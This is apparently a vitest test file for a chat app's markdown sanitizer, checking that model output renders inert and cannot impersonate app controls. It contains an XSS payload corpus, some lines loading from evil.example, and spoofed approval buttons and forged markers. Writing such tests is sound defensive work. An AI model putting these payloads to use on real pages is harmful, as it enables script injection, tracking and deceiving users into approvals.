import { describe, expect, it } from 'vitest';
import { escapeHtml, highlight, renderMarkdown } from './markdown';

const ALLOWED = new Set([
  'A',
  'ABBR',
  'B',
  'BLOCKQUOTE',
  'BR',
  'CODE',
  'DEL',
  'DIV',
  'EM',
  'H1',
  'H2',
  'H3',
  'H4',
  'H5',
  'H6',
  'HR',
  'I',
  'IMG',
  'KBD',
  'LI',
  'MARK',
  'OL',
  'P',
  'PRE',
  'S',
  'SPAN',
  'STRONG',
  'SUB',
  'SUP',
  'TABLE',
  'TBODY',
  'TD',
  'TH',
  'THEAD',
  'TR',
  'UL',
]);
const CONTROLS = 'button, input, select, textarea, label, form, details, summary, dialog, option, fieldset';
/** The classes our renderer puts in after sanitizing. */
const OURS = new Set(['code-block', 'code-head', 'code-lang', 'code-copy', 'code-artifact', 'img-blocked', 'task-box']);

function parse(html: string): DocumentFragment {
  const tpl = document.createElement('template');
  tpl.innerHTML = html;
  return tpl.content;
}

/** Our own controls: a code block's Copy button, a task list's read-only box. */
function ours(el: Element): boolean {
  if (el.tagName === 'BUTTON')
    return (
      (el.matches('.code-head > button.code-copy[type="button"][data-copy="1"]') && el.textContent === 'Copy') ||
      // An html or svg block's, beside Copy (components/artifact).
      (el.matches('.code-head > button.code-artifact[type="button"][data-artifact="1"]') && el.textContent === 'Open as artifact')
    );
  if (el.tagName === 'INPUT') return el.matches('li input.task-box[type="checkbox"][disabled]');
  return false;
}

/**
 * Asserts nothing in the HTML can pose as the app: no id, no style, no
 * class but highlight.js's and ours, no control but ours.
 */
function assertNoSpoof(html: string) {
  for (const el of Array.from(parse(html).querySelectorAll('*'))) {
    expect(el.hasAttribute('id'), `id in ${el.outerHTML}`).toBe(false);
    expect(el.hasAttribute('style'), `style in ${el.outerHTML}`).toBe(false);
    for (const cls of Array.from(el.classList))
      expect(OURS.has(cls) || /^hljs(-|$)/.test(cls) || /_$/.test(cls), `class ${cls} in ${el.outerHTML}`).toBe(true);
    for (const attr of Array.from(el.attributes))
      expect(attr.name.startsWith('data-') && !ours(el), `${attr.name} in ${el.outerHTML}`).toBe(false);
    if (el.matches(CONTROLS)) expect(ours(el), `control ${el.outerHTML}`).toBe(true);
  }
}

/** Asserts the rendered HTML cannot run anything or fetch anything. */
function assertInert(html: string) {
  const tpl = document.createElement('template');
  tpl.innerHTML = html;
  for (const el of Array.from(tpl.content.querySelectorAll('*'))) {
    expect(ALLOWED.has(el.tagName) || ours(el), `tag ${el.tagName} in ${html}`).toBe(true);
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.startsWith('on'), `handler ${attr.name} in ${html}`).toBe(false);
      expect(attr.name, `style in ${html}`).not.toBe('style');
      expect(attr.value.toLowerCase().replace(/\s/g, ''), `${attr.name}=${attr.value}`).not.toMatch(/^(javascript|vbscript|data:text)/);
    }
    if (el.tagName === 'A' && el.hasAttribute('href')) {
      expect(el.getAttribute('href')).toMatch(/^(https?:|mailto:)/i);
      expect(el.getAttribute('target')).toBe('_blank');
      expect(el.getAttribute('rel')).toBe('noopener noreferrer');
    }
    if (el.tagName === 'IMG' && el.hasAttribute('src')) expect(el.getAttribute('src')).toMatch(/^data:image\//);
    if (el.tagName === 'INPUT') {
      expect(el.getAttribute('type')).toBe('checkbox');
      expect(el.hasAttribute('disabled')).toBe(true);
    }
  }
  expect(html).not.toMatch(/<script|<iframe|<style|<svg|<object|<embed|<form|<link|<meta|<base/i);
}

const corpus: Array<[string, string]> = [
  ['script tag', '<script>alert(1)</script>'],
  ['script in markdown text', 'Hello <script src="https://evil.example/x.js"></script> world'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, quoted', '<img src="x" onerror="alert(document.cookie)">'],
  ['javascript: link, html', '<a href="javascript:alert(1)">click</a>'],
  ['javascript: link, markdown', '[click](javascript:alert(1))'],
  ['javascript: link, encoded', '[click](jav&#x09;ascript:alert(1))'],
  ['javascript: link, mixed case and spaces', '[x]( JaVaScRiPt:alert(1))'],
  ['vbscript link', '[x](vbscript:msgbox(1))'],
  ['svg onload', '<svg onload=alert(1)><circle r="4"/></svg>'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['style tag', '<style>body{display:none}</style>'],
  ['style attribute', '<p style="position:fixed;inset:0;background:red">x</p>'],
  ['css url()', '<div style="background:url(https://evil.example/track.png)">x</div>'],
  ['data: html link, markdown', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['data: html link, html', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['markdown image remote', '![tracker](https://evil.example/pixel.png)'],
  ['markdown image javascript', '![x](javascript:alert(1))'],
  ['markdown image with title trick', '![x" onerror="alert(1)](https://e.example/a.png "t\\" onload=\\"alert(1)")'],
  ['html image remote', '<img src="https://evil.example/pixel.png">'],
  ['link title injection', '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")'],
  ['autolink javascript', '<javascript:alert(1)>'],
  ['entities', '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;'],
  ['entity-encoded javascript href', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['object and embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['form and input', '<form action="https://evil.example"><input type="text" name="q"><button>go</button></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['base tag', '<base href="https://evil.example/">'],
  ['link tag', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['code fence with html', '```html\n<script>alert(1)</script>\n```'],
  ['inline code with html', '`<img src=x onerror=alert(1)>`'],
  ['nested quotes', '<a href="https://ok.example" onclick="alert(1)">x</a>'],
  ['mutation xss', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['data attributes', '<span data-copy="1" data-x="y">x</span>'],
  ['task list', '- [x] done\n- [ ] todo'],
];

describe('renderMarkdown: every item of the XSS corpus renders inert', () => {
  it.each(corpus)('%s', (_name, src) => {
    assertInert(renderMarkdown(src));
    assertNoSpoof(renderMarkdown(src));
  });
});

const spoofs: Array<[string, string]> = [
  ['an approval button', '<button class="btn primary">Allow once</button>'],
  ['a submit button', '<button type="submit" formaction="https://evil.example" class="btn">Deny</button>'],
  ['a checkbox with our class', '<input type=checkbox class="task-box" checked>'],
  ['a text input', '<input type="text" class="composer" placeholder="Message" value="x">'],
  ['a select', '<select class="model"><option selected>gpt-4</option></select>'],
  ['a textarea', '<textarea class="composer" id="message">Type here</textarea>'],
  ['a label', '<label class="btn" for="composer">Send</label>'],
  ['a form', '<form class="dialog" action="https://evil.example"><button>Send</button></form>'],
  ['a dialog', '<dialog open class="modal"><p>Approve?</p></dialog>'],
  [
    'a disclosure dressed as a stage section',
    '<details open class="stage"><summary class="stage-head">Critique 1: passed, 90%</summary>hidden</details>',
  ],
  ["the app's layout classes, id and style", '<div class="turn" id="composer" style="position:fixed;inset:0">Fake turn</div>'],
  [
    'our own classes, written by the model',
    '<div class="code-block"><div class="code-head"><span class="code-copy" data-copy="1">Copy</span></div></div>',
  ],
  ['a forged marker', '<span data-md="0123456789abcdef01234567:copy"></span><div data-md="x:class:code-block">x</div>'],
  ['a link dressed as a button', '<a class="btn primary" href="https://example.com" role="button" tabindex="0">Allow once</a>'],
  ['an app class beside a highlight.js one', '<span class="hljs-keyword btn primary">kw</span> <span class="function_">f</span>'],
  ['an image with an id and class', '<img id="logo" class="avatar" src="data:image/png;base64,iVBORw0KGgo=">'],
  ['clobbering names', '<p name="composer"><a name="approvals" href="https://x.example">x</a></p>'],
  ['aria and tabindex', '<div role="dialog" aria-modal="true" aria-label="Approve" tabindex="0">x</div>'],
  ['markup in a code fence', '```html\n<button class="btn primary">Allow once</button>\n```'],
];

describe('renderMarkdown: model HTML cannot pose as the app', () => {
  it.each(spoofs)('%s', (_name, src) => {
    const html = renderMarkdown(src);
    assertInert(html);
    assertNoSpoof(html);
  });

  it('keeps the text of a removed control', () => {
    expect(parse(renderMarkdown('<button class="btn primary">Allow once</button>')).textContent).toContain('Allow once');
  });

  it('keeps highlight.js classes and drops the rest', () => {
    const html = renderMarkdown(
      '<span class="hljs-keyword btn primary">kw</span> <span class="hljs-title function_ evil">f</span> <span class="function_">g</span>',
    );
    expect(html).toContain('<span class="hljs-keyword">kw</span>');
    expect(html).toContain('<span class="hljs-title function_">f</span>');
    expect(html).toContain('<span>g</span>');
  });

  it('puts in our Copy button after sanitizing, one per code block', () => {
    const frag = parse(renderMarkdown('```go\nfunc main() {}\n```\n\n<button class="code-copy" data-copy="1">Copy</button>'));
    const buttons = frag.querySelectorAll('button');
    expect(buttons).toHaveLength(1);
    expect(ours(buttons[0]!)).toBe(true);
    expect(frag.querySelector('.code-block .code-lang')?.textContent).toBe('go');
    expect(frag.querySelector('[data-md]')).toBeNull();
  });

  it('puts in read-only task boxes after sanitizing, and only for task items', () => {
    const frag = parse(renderMarkdown('- [x] done\n- [ ] todo\n- <input type="checkbox" checked> forged'));
    const boxes = Array.from(frag.querySelectorAll('input'));
    expect(boxes.map((b) => [ours(b), (b as HTMLInputElement).checked])).toEqual([
      [true, true],
      [true, false],
    ]);
    expect(frag.textContent).toContain('forged');
  });

  it('marks a remote image link with our class', () => {
    expect(parse(renderMarkdown('![chart](https://example.com/c.png)')).querySelector('a.img-blocked')).not.toBeNull();
  });

  it('cannot forge a marker', () => {
    // Markers carry a random nonce; a guessed one is dropped with every data- attribute.
    const html = renderMarkdown(
      '<span data-md="copy"></span><span data-md=":copy"></span><a data-md="a:class:img-blocked" href="https://x.example">x</a>',
    );
    expect(html).not.toContain('data-md');
    expect(parse(html).querySelector('button, [class]')).toBeNull();
  });
});

describe('renderMarkdown', () => {
  it('renders GFM: headings, emphasis, tables, lists', () => {
    const html = renderMarkdown('# Title\n\n**bold** and *it*\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two');
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<table>');
    expect(html).toContain('<ol>');
  });

  it('opens links in a new context with no opener or referrer', () => {
    const html = renderMarkdown('[docs](https://example.com/docs)');
    expect(html).toContain('href="https://example.com/docs"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer"');
  });

  it('removes links that would navigate the app window', () => {
    const html = renderMarkdown('[rel](./other.md) [hash](#top)');
    expect(html).not.toContain('href=');
  });

  it('does not load remote images, and shows them as a link instead', () => {
    const html = renderMarkdown('![chart](https://example.com/c.png)');
    expect(html).not.toContain('<img');
    expect(html).toContain('[image: chart]');
    expect(html).toContain('href="https://example.com/c.png"');
  });

  it('keeps data: images', () => {
    const html = renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)');
    expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo="');
  });

  it('highlights code blocks and adds a copy button', () => {
    const html = renderMarkdown('```python\ndef f():\n    return 1\n```');
    expect(html).toContain('<div class="code-block">');
    expect(html).toContain('data-copy="1"');
    expect(html).toContain('hljs-keyword');
    expect(html).toContain('>python<');
  });

  it('escapes code in an unknown language', () => {
    const html = renderMarkdown('```nosuchlang\n<b>x</b>\n```');
    expect(html).toContain('&lt;b&gt;x&lt;/b&gt;');
  });

  it('renders an unfinished code fence while streaming', () => {
    const html = renderMarkdown('Text\n\n```js\nconst a = 1;');
    expect(html).toContain('code-block');
    assertInert(html);
  });

  it('shows HTML entities as text', () => {
    const tpl = document.createElement('template');
    tpl.innerHTML = renderMarkdown('&lt;script&gt;');
    expect(tpl.content.textContent?.trim()).toBe('<script>');
  });

  it('returns nothing for empty input', () => {
    expect(renderMarkdown('')).toBe('');
  });
});

describe('helpers', () => {
  it('escapeHtml escapes the five characters', () => {
    expect(escapeHtml(`<a href="x">'&'</a>`)).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
  });

  it('highlight knows aliases', () => {
    expect(highlight('const x = 1', 'ts')).toContain('hljs-keyword');
    expect(highlight('<x>', '')).toBe('&lt;x&gt;');
  });
});
